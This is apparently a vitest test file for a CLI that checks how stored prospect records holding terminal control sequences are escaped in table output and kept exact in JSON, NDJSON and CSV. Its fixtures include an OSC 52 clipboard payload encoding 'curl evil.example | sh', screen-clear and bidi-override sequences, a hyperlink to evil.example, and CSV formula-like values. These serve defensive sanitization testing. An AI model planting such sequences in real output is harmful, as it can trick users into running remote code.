/**
 * Hostile values stored in the sandbox, read back through every format: the human views show
 * control characters escaped and cut cleanly, the machine formats give them back exactly; CSV
 * export then import gives every value back unchanged.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { svcInProcess } from '../helpers/in-process-cli.js';
import { json, tempDir } from '../helpers/run-svc.js';
import { sandboxWithEnv, type TestSandbox } from '../helpers/sandbox.js';

let sb: TestSandbox;
let env: () => Record<string, string>;

beforeAll(async () => {
  const s = await sandboxWithEnv({ seed: 5 });
  sb = s.sb;
  env = s.env;
});
afterAll(async () => {
  await sb.close();
});

/** What a terminal would act on: ESC, BEL, CR and other C0 (newline aside), DEL, C1, bidi controls. */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const OSC52 = `Eve\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const CLEAR = 'CEO\x1b[2J\x1b[H';
const BIDI = 'Smith\u202eolleh\u202c\x9b31m';
const LINK = '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\';

async function createHostile(): Promise<number> {
  const r = await svcInProcess(
    [
      'prospects',
      'create',
      '--attr',
      `firstName=${OSC52}`,
      '--attr',
      `lastName=${BIDI}`,
      '--attr',
      `title=${CLEAR}`,
      '--attr',
      `occupation=${LINK}${'x'.repeat(200)}`,
      '-o',
      'json',
    ],
    { env: env() },
  );
  expect(r.code, r.stderr).toBe(0);
  return json<{ id: number }>(r).id;
}

describe('control characters in records', () => {
  it('table and get show them escaped, even in a cut cell; json, ndjson and csv give them back exactly', async () => {
    const id = await createHostile();
    const list = await svcInProcess(
      ['prospects', 'list', '--filter', `id=${id}`, '--columns', 'id,firstName,lastName,title,occupation', '-o', 'table'],
      { env: env() },
    );
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).not.toMatch(RAW_CONTROL);
    expect(list.stdout).toContain('Eve\\e]52;c;');
    expect(list.stdout).toContain('Smith\\u202eolleh');
    // The occupation cell is cut: before an escape, never inside one (no lone backslash before …).
    expect(list.stdout).toContain('…');
    expect(list.stdout).not.toMatch(/\\…/);

    const get = await svcInProcess(['prospects', 'get', String(id), '-o', 'table'], { env: { ...env(), COLUMNS: '200' } });
    expect(get.code, get.stderr).toBe(0);
    expect(get.stdout).not.toMatch(RAW_CONTROL);
    expect(get.stdout).toMatch(/^firstName\s+Eve\\e\]52;c;\S+\\a$/m);
    expect(get.stdout).toMatch(/^title\s+CEO\\e\[2J\\e\[H$/m);

    const exact = json<Record<string, string>>(await svcInProcess(['prospects', 'get', String(id), '-o', 'json'], { env: env() }));
    expect(exact).toMatchObject({ firstName: OSC52, lastName: BIDI, title: CLEAR });
    const nd = await svcInProcess(['prospects', 'list', '--filter', `id=${id}`, '-o', 'ndjson'], { env: env() });
    expect(JSON.parse(nd.stdout)).toMatchObject({ firstName: OSC52, lastName: BIDI, title: CLEAR });
    const csv = await svcInProcess(['prospects', 'list', '--filter', `id=${id}`, '--columns', 'id,firstName,title', '-o', 'csv'], {
      env: env(),
    });
    expect(csv.stdout).toBe(`id,firstName,title\n${id},${OSC52},${CLEAR}\n`);
    const raw = await svcInProcess(['prospects', 'get', String(id), '-o', 'raw'], { env: env() });
    expect((JSON.parse(raw.stdout) as { data: { attributes: Record<string, string> } }).data.attributes).toMatchObject({
      firstName: OSC52,
      lastName: BIDI,
    });
  });

  it('update --input of a CSV export gives back values that start with a quote', async () => {
    const values = ["'=x", "''", "'@home", '=1+1'];
    const ids: number[] = [];
    for (const v of values) {
      const r = await svcInProcess(['prospects', 'create', '--attr', `title=${v}`, '--attr', 'lastName=Quote', '-o', 'json'], {
        env: env(),
      });
      expect(r.code, r.stderr).toBe(0);
      ids.push(json<{ id: number }>(r).id);
    }
    const exported = await svcInProcess(['prospects', 'list', '--filter', `id=${ids.join(',')}`, '--columns', 'id,title', '-o', 'csv'], {
      env: env(),
    });
    expect(exported.code, exported.stderr).toBe(0);
    // Change them in the store, then put the export back.
    for (const id of ids) sb.store.get('prospect', id)!.attributes.title = 'changed';
    const file = path.join(tempDir(), 'titles.csv');
    fs.writeFileSync(file, exported.stdout);
    const r = await svcInProcess(['prospects', 'update', '--input', file, '--yes'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(ids.map((id) => sb.store.get('prospect', id)!.attributes.title)).toEqual(values);
  });
});
